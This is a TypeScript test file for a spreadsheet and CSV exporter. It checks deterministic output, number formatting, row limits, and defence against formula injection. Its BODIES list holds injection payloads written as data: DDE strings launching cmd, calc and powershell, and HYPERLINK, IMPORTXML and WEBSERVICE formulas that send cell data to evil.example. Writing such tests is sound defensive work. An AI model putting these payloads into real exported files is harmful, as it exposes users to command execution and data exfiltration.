import { readXlsx } from 'hucre/xlsx';
import { describe, expect, it } from 'vitest';
import { encodeTable } from '../../pipeline/encode-table.ts';
import type { Table, TableColumn } from '../../pipeline/table.ts';
import { writeXlsx, XLSX_MAX_ROWS } from '../../pipeline/write-xlsx.ts';

const COLUMNS: readonly TableColumn[] = [
  { id: 'name', label: 'Name', type: 'text' },
  { id: 'amount', label: 'Amount', type: 'decimal', scale: 2, unit: 'EUR' },
];

/** What a spreadsheet might run, as somebody could name a campaign. */
const BODIES = [
  '1+1',
  "cmd|' /C calc'!A0",
  'HYPERLINK("http://evil.example?x="&A1,"click")',
  'IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
  "SUM(1+1)*cmd|' /C calc'!A0",
  'DDE("cmd";"/C calc";"x")',
  "2+5+cmd|' /C powershell'!A0",
  'WEBSERVICE("http://evil.example")',
  'A1:A9',
  '"quoted, and parted"',
];
const HEADS = ['=', '+', '-', '@', '\t=', '\r=', '\0=', '−', '＝', '＋', '－', '＠', '\n='];
const CORPUS = HEADS.flatMap((head) => BODIES.map((body) => `${head}${body}`));

const tableOf = (rows: Table['rows']): Table => ({
  columns: COLUMNS,
  rows,
  totals: null,
  totalRows: rows.length,
  truncated: false,
  meta: {},
});

describe('a spreadsheet', () => {
  const sheets = [
    {
      name: 'ROI',
      columns: COLUMNS,
      rows: [
        ['a', '-12.50'],
        ['b', null],
      ] as const,
    },
  ];

  it('is the same bytes every time', async () => {
    const [once, again] = [await writeXlsx(sheets, { title: 't' }), await writeXlsx(sheets, { title: 't' })];
    expect(Buffer.from(once).equals(Buffer.from(again))).toBe(true);
  });

  it('has its header frozen and filtered, numbers as numbers with their format, nothing for null', async () => {
    const book = await readXlsx(await writeXlsx(sheets, { title: 't' }), { readStyles: true });
    const [sheet] = book.sheets;
    expect(sheet.rows).toEqual([
      ['name', 'amount'],
      ['a', -12.5],
      ['b', null],
    ]);
    expect(sheet.freezePane).toEqual({ rows: 1 });
    expect(sheet.autoFilter?.range).toBe('A1:B3');
    expect(sheet.cells?.get('1,1')?.style?.numFmt).toBe('#,##0.00');
  });

  it('keeps digits that a spreadsheet number would lose', async () => {
    const book = await readXlsx(
      await writeXlsx([{ name: 'x', columns: COLUMNS, rows: [['a', '12345678901234567.89']] }], { title: 't' }),
    );
    expect(book.sheets[0].rows[1][1]).toBe('12345678901234567.89');
  });

  it('refuses more rows than a spreadsheet takes, and says what to do', async () => {
    const rows = Array.from({ length: XLSX_MAX_ROWS + 1 }, () => ['a', '1']);
    await expect(writeXlsx([{ name: 'ROI', columns: COLUMNS, rows }], { title: 't' })).rejects.toMatchObject({
      code: 'too_large',
      message: expect.stringMatching(/100001 rows.*csv or parquet/),
    });
  });

  it('runs nothing of a corpus of formulas: text stays text, and no cell is a formula', async () => {
    const rows = CORPUS.map((text, i) => [text, `-${i}.25`]);
    const book = await readXlsx(await writeXlsx([{ name: 'ROI', columns: COLUMNS, rows }], { title: 't' }), {
      readStyles: true,
    });
    const [sheet] = book.sheets;
    expect([...(sheet.cells?.values() ?? [])].filter((cell) => cell.formula !== undefined)).toEqual([]);
    sheet.rows.slice(1).forEach((row, i) => {
      expect(typeof row[0]).toBe('string');
      expect(row[1]).toBe(-i - 0.25);
    });
  });
});

describe('CSV', () => {
  it('guards every text cell of the corpus by an apostrophe, and no number', async () => {
    const rows = CORPUS.map((text, i) => [text, `-${i}.25`]);
    const csv = Buffer.from(await encodeTable(tableOf(rows), 'csv')).toString('utf8');
    // the guard is the first character of the cell, quoted or not
    const cells = csv
      .match(/(?:^|\r\n)(?:"(?:[^"]|"")*"|[^,]*),-?[\d.]+/g)!
      .map((line) => line.trim().replace(/^"/, ''));
    expect(cells).toHaveLength(CORPUS.length);
    expect(cells.filter((cell) => !cell.startsWith("'"))).toEqual([]);
    expect(csv).toContain(',-5.25');
    expect(csv).not.toContain(",'-");
  });

  it('leaves harmless text alone', async () => {
    const harmless = ['a=b', 'spring-sale', '(none)', '1+1', 'jane@example', ''];
    const csv = Buffer.from(await encodeTable(tableOf(harmless.map((text) => [text, '1'])), 'csv')).toString('utf8');
    expect(csv).not.toContain("'");
  });
});
